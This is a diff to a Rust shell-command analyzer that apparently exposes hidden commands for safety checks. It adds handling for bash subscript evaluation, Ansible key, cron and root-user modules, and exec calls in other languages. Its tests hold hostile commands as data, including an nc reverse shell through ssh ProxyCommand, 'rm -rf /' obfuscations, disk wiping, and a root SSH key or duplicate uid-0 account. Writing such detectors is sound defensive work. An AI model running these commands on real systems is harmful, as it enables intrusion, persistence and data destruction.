@@ -206,6 +206,16 @@ fn parse_into(src: &str, depth: usize, out: &mut Script, vars: &mut HashMap<Stri
     // Literals piped into a shell: `echo 'cmd' | sh`, through `rev` or
     // `base64 -d` on the way.
     collect_piped_literals(&out.segments[first_new..], &mut nested);
+    // Bash evaluates an array subscript's `$(…)` whenever a value is used
+    // in arithmetic (`x='a[$(cmd)]'; (( x ))`, `let`, `[[ $x -eq 1 ]]`),
+    // quoted or not: the command in such a subscript runs.
+    if src.contains("[$(")
+        && ["((", "let ", "-eq", "-ne", "-lt", "-gt", "-le", "-ge"]
+            .iter()
+            .any(|k| src.contains(k))
+    {
+        nested.extend(subscript_commands(src).into_iter().map(|c| (c, false)));
+    }
     for (text, decoded) in nested {
         if decoded {
             out.decoded.push(text.clone());
@@ -318,6 +328,56 @@ fn collect_nested(seg: &Segment, nested: &mut Vec<(String, bool)>) {
             {
                 if runs {
                     nested.push((w[1].clone(), false));
+                }
+                // Modules that are shell commands in other words: a key
+                // added to an account, a cron job (judged as those).
+                let kv = |k: &str| -> Option<String> {
+                    let at = w[1].find(&format!("{k}="))? + k.len() + 1;
+                    let rest = &w[1][at..];
+                    let v = match rest.chars().next()? {
+                        q @ ('\'' | '"') => rest[1..].split(q).next()?,
+                        _ => rest.split_whitespace().next()?,
+                    };
+                    Some(v.to_string())
+                };
+                match module.map(|m| {
+                    m[1].trim_start_matches("ansible.builtin.")
+                        .trim_start_matches("ansible.posix.")
+                }) {
+                    Some("authorized_key") => {
+                        if let (Some(user), Some(key)) = (kv("user"), kv("key")) {
+                            let home = if user == "root" {
+                                "/root".to_string()
+                            } else {
+                                format!("/home/{user}")
+                            };
+                            nested.push((
+                                format!("echo '{key}' >> {home}/.ssh/authorized_keys"),
+                                false,
+                            ));
+                        }
+                    }
+                    Some("cron") => {
+                        if let Some(job) = kv("job") {
+                            nested.push((
+                                format!("(crontab -l; echo '* * * * * {job}') | crontab -"),
+                                false,
+                            ));
+                        }
+                    }
+                    _ => {}
+                }
+                // The user module with uid=0 and non_unique: a second root
+                // account on every host (`useradd -o -u 0`).
+                if module.is_some_and(|m| m[1] == "user" || m[1] == "ansible.builtin.user")
+                    && w[1].contains("uid=0")
+                {
+                    if let Some(name) = w[1]
+                        .split_whitespace()
+                        .find_map(|kv| kv.strip_prefix("name="))
+                    {
+                        nested.push((format!("useradd -o -u 0 {name}"), false));
+                    }
                 }
             }
         }
@@ -720,6 +780,12 @@ fn exec_literals(code: &str) -> Vec<String> {
         "execFileSync(",
         "execv(",
         "execvp(",
+        // Go, Rust and Java: `exec.Command("sh", "-c", …)`,
+        // `Command::new("sh").args(["-c", …])`, `new ProcessBuilder(…)`.
+        "exec.Command(",
+        "exec.CommandContext(",
+        "Command::new(",
+        "ProcessBuilder(",
     ];
     let mut out = Vec::new();
     for call in CALLS {
@@ -734,10 +800,21 @@ fn exec_literals(code: &str) -> Vec<String> {
                 && (q == '['
                     || call.starts_with("launched")
                     || call.starts_with("spawn")
-                    || call.starts_with("exec"))
+                    || call.starts_with("exec")
+                    || call.starts_with("Command")
+                    || call.starts_with("Process"))
             {
                 // The words of an argument vector, in order, up to the
-                // call's closing parenthesis.
+                // call's closing parenthesis (Rust's builder: through its
+                // `.arg(…)`/`.args(…)` chain, up to the statement's end).
+                let chained;
+                let rest = if *call == "Command::new(" {
+                    let end = rest.find(';').unwrap_or(rest.len()).min(MAX_ARGV_SCAN);
+                    chained = rest[..end].replace(").args(", ", ").replace(").arg(", ", ");
+                    chained.as_str()
+                } else {
+                    rest
+                };
                 if let Some(line) = argv_command(rest) {
                     if out.len() < 16 {
                         out.push(line);
@@ -754,6 +831,37 @@ fn exec_literals(code: &str) -> Vec<String> {
                 }
             }
         }
+    }
+    out
+}
+
+/// The commands inside `[$(…)]` subscripts of `src` (at most four).
+fn subscript_commands(src: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut from = 0;
+    while let Some(p) = src[from..].find("[$(") {
+        let start = from + p + 3;
+        let mut depth = 1;
+        let mut end = None;
+        for (i, c) in src[start..].char_indices() {
+            match c {
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        end = Some(start + i);
+                        break;
+                    }
+                }
+                _ => {}
+            }
+        }
+        let Some(end) = end else { break };
+        let cmd = src[start..end].trim();
+        if !cmd.is_empty() && out.len() < 4 {
+            out.push(cmd.to_string());
+        }
+        from = end;
     }
     out
 }
@@ -2028,6 +2136,11 @@ impl<'a> Lexer<'a> {
         if let Some(v) = known {
             return v;
         }
+        // `${NAME:?}`: the shell stops if NAME is unset; kept as written,
+        // so a guarded `rm -rf "${DIR:?}"/*` reads as guarded.
+        if rest.starts_with(":?") || rest.starts_with('?') {
+            return format!("${{{inner}}}");
+        }
         for op in [":+", "+"] {
             if let Some(alt) = rest.strip_prefix(op) {
                 return alt.trim_matches(|c| c == '"' || c == '\'').to_string();
@@ -2323,9 +2436,41 @@ mod tests {
         assert_eq!(cmds("curl x | ${SHELL:-sh}"), vec!["curl x", "sh"]);
         assert_eq!(cmds("{rm,-rf,/}"), vec!["rm -rf /"]);
         assert_eq!(cmds("rm${IFS}-rf${IFS}/"), vec!["rm -rf /"]);
+        // The `:?` guard stays visible to the deletion checks.
         assert_eq!(
             cmds("rm -rf \"${BUILD_DIR:?}\"/*"),
-            vec!["rm -rf $BUILD_DIR/*"]
+            vec!["rm -rf ${BUILD_DIR:?}/*"]
+        );
+    }
+
+    #[test]
+    fn test_commands_built_by_loops_xargs_find_and_options() {
+        let all = |s: &str| cmds(s).join(" ; ");
+        // A loop variable stands for every item; inside a longer word it
+        // stays a variable.
+        assert!(all("for d in /home /srv; do rm -rf \"$d\"; done").contains("rm -rf /home /srv"));
+        assert!(all("for i in 1 2; do ping 10.0.0.$i; done").contains("ping 10.0.0.$i"));
+        assert!(all("for i in $(seq 3); do rm -rf $i; done").contains("rm -rf $i"));
+        // Unquoted literal values split into words; substitutions do not.
+        assert!(all("v=\"rm -rf /\"; $v").contains("rm -rf /"));
+        assert!(all("p=$(pgrep x y); cat /proc/$p/maps").contains("/proc/$(pgrep x y)/maps"));
+        // xargs and find -exec build their commands.
+        assert!(all("echo /dev/sdb | xargs -I% wipefs -a %").contains("wipefs -a /dev/sdb"));
+        assert!(
+            all("find /tmp -name 'k*' -exec cp {} /dev/shm/ \\;").contains("cp /tmp/k* /dev/shm/")
+        );
+        // Options that run commands, and argument-vector calls.
+        assert!(all("ssh -o ProxyCommand='nc -e /bin/sh 1.2.3.4 9' h")
+            .contains("nc -e /bin/sh 1.2.3.4 9"));
+        assert!(all("git -c core.sshCommand='curl x' pull").contains("curl x"));
+        assert!(all("rsync -e 'sh -c id' a b:").contains("sh -c id"));
+        assert!(all("node -e 'spawn(\"sh\", [\"-c\", \"rm -rf ~\"])'").contains("rm -rf ~"));
+        // Array subscripts in arithmetic run their substitution.
+        assert!(all("x='a[$(id)]'; (( x ))").contains("id"));
+        // Ansible modules that are shell commands in other words.
+        assert!(
+            all("ansible all -m authorized_key -a \"user=root key='ssh-rsa AAAA k'\"")
+                .contains("/root/.ssh/authorized_keys")
         );
     }
 
